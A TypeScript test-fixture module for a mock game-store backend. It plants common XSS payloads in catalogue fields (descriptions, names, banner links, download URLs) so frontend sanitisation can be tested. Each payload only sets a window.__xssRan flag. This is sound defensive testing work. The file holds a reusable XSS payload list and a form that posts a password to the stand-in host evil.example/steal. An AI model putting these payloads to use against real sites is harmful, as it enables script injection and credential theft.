/**
 * The hostile seed variant: the normal catalogue with common XSS payloads
 * planted wherever the server hands the store text, HTML or a URL — notices,
 * help and agreement articles, game descriptions and evaluations (HTML);
 * names, titles, keywords and buyer names (plain text); banner links,
 * download links, price-comparison links, the QQ group image and a few
 * covers (URLs). Every payload that would run sets `window.__xssRan`, so a
 * test (or a person at the browser console) can tell at once whether
 * anything ran (and `<html data-xss-ran>` for a DOM without that global).
 *
 * Switched on with `createBackend({ seedVariant: 'hostile' })`, the control
 * `useSeed { variant: 'hostile' }` (also `POST /webapi/__mock/useSeed`), or
 * `VITE_MOCK_SEED=hostile` for the in-browser backend (src/mock/browser.ts).
 */
import { DICT_KEYS } from '../../api/dictionary';
import type { SeedData } from './types';

/**
 * Set by any payload that manages to run: `window.__xssRan` and `<html data-xss-ran>`.
 * @internal
 */
export const XSS_FLAG = '__xssRan';

// The attribute too: a test DOM (jsdom) runs inline handlers in a global of its own, but shares the document.
const RUN = `window.${XSS_FLAG}=1;document.documentElement.setAttribute('data-xss-ran','1')`;

/**
 * HTML payloads, for fields the store renders as (sanitised) HTML.
 * @internal
 */
export const HOSTILE_HTML: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src="x" onerror="${RUN}">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9feHNzUmFuPTEiLz4=" alt="svg">`,
  `<a href="javascript:${RUN}">点此领取奖励</a>`,
  `<a href=" jav&#x09;ascript:${RUN}">空白混淆链接</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3NSYW49MTwvc2NyaXB0Pg==">data 链接</a>`,
  `<svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>svg</text></a></svg>`,
  `<p style="background:url(javascript:${RUN});width:expression(${RUN})">CSS 表达式</p>`,
  `<style>@import url("javascript:${RUN}"); body { background: url(javascript:${RUN}) }</style>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${XSS_FLAG}=1&lt;/script&gt;"></iframe>`,
  `<form action="https://evil.example/steal" method="post"><input name="password" value="x"><button formaction="javascript:${RUN}">提交</button></form>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<base href="javascript:${RUN}//"><link rel="stylesheet" href="javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>展开</summary></details>`,
  `<video><source onerror="${RUN}"></video><audio src="x" onerror="${RUN}"></audio>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<div id="root" name="cookie"><input id="attributes" name="token"></div>`,
];

/**
 * A payload for fields the store shows as plain text (names, titles, keywords).
 * @internal
 */
export const HOSTILE_TEXT = `<img src=x onerror="${RUN}"><script>${RUN}</script>`;

/** Payloads for fields the store uses as a link or an image address. */
const HOSTILE_URLS: readonly string[] = [
  `javascript:${RUN}`,
  ` JaVaScRiPt:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3NSYW49MTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
];

const html = (i: number) => HOSTILE_HTML[i % HOSTILE_HTML.length]!;
const url = (i: number) => HOSTILE_URLS[i % HOSTILE_URLS.length]!;
const text = (value: string) => `${value}${HOSTILE_TEXT}`;
const allHtml = HOSTILE_HTML.join('\n');

/** Plants the payloads in a fresh seed (mutates and returns it). */
export function makeHostile(seed: SeedData): SeedData {
  seed.games.forEach((game, i) => {
    game.name = text(game.name);
    game.description = `${game.description}\n${allHtml}`;
    game.publisher = text(game.publisher);
    game.tags = [...game.tags, HOSTILE_TEXT];
    if (i % 7 === 1) game.cover = url(i);
    if (game.gallery.length > 0) game.gallery = [...game.gallery, url(i)];
  });
  seed.goods.forEach((goods) => {
    goods.name = text(goods.name);
  });
  seed.evaluations.forEach((evaluation, i) => {
    evaluation.content = `${evaluation.content}${html(i)}${html(i + 1)}`;
    evaluation.userName = text(evaluation.userName);
    evaluation.goodsName = text(evaluation.goodsName);
  });
  seed.notices.forEach((notice) => {
    notice.title = text(notice.title);
    notice.content = `${notice.content}\n${allHtml}`;
  });
  seed.articles.forEach((article) => {
    article.title = text(article.title);
    article.content = `${article.content}\n${allHtml}`;
  });
  seed.classifies.forEach((classify) => {
    classify.name = text(classify.name);
  });
  seed.labels.forEach((label) => {
    label.name = text(label.name);
  });
  seed.plates.forEach((plate) => {
    plate.name = text(plate.name);
  });
  seed.ranks.forEach((rank) => {
    rank.name = text(rank.name);
  });
  seed.banners.forEach((banner, i) => {
    banner.title = text(banner.title);
    banner.subtitle = text(banner.subtitle);
    banner.link = url(i);
  });
  seed.hotSearch.keywords = [HOSTILE_TEXT, ...seed.hotSearch.keywords];
  seed.couponTemplates.forEach((template) => {
    template.title = text(template.title);
    template.description = text(template.description);
  });
  seed.packages.forEach((pkg) => {
    pkg.name = text(pkg.name);
  });
  Object.values(seed.competitorPrices).forEach((prices) =>
    prices.forEach((price, i) => {
      price.platform = text(price.platform);
      price.url = url(i);
    }),
  );
  seed.recentSells.forEach((sell) => {
    sell.buyer = text(sell.buyer);
  });
  seed.newYear.title = text(seed.newYear.title);
  seed.newYear.rules = seed.newYear.rules.map((rule, i) => (i === 0 ? text(rule) : rule));
  seed.dictItems[DICT_KEYS.appDownloadUrl] = HOSTILE_URLS.map((value, i) => ({ text: text(`平台${i + 1}`), value }));
  seed.dictItems[DICT_KEYS.activityConfig] = (seed.dictItems[DICT_KEYS.activityConfig] ?? []).map((item) => {
    if (item.text === 'title' || item.text === 'subtitle' || item.text === 'rules')
      return { ...item, value: text(item.value) };
    if (item.text === 'banner') return { ...item, value: url(0) };
    return item;
  });
  for (const items of Object.values(seed.dictText)) {
    for (const key of Object.keys(items)) items[key] = url(2);
  }
  return seed;
}
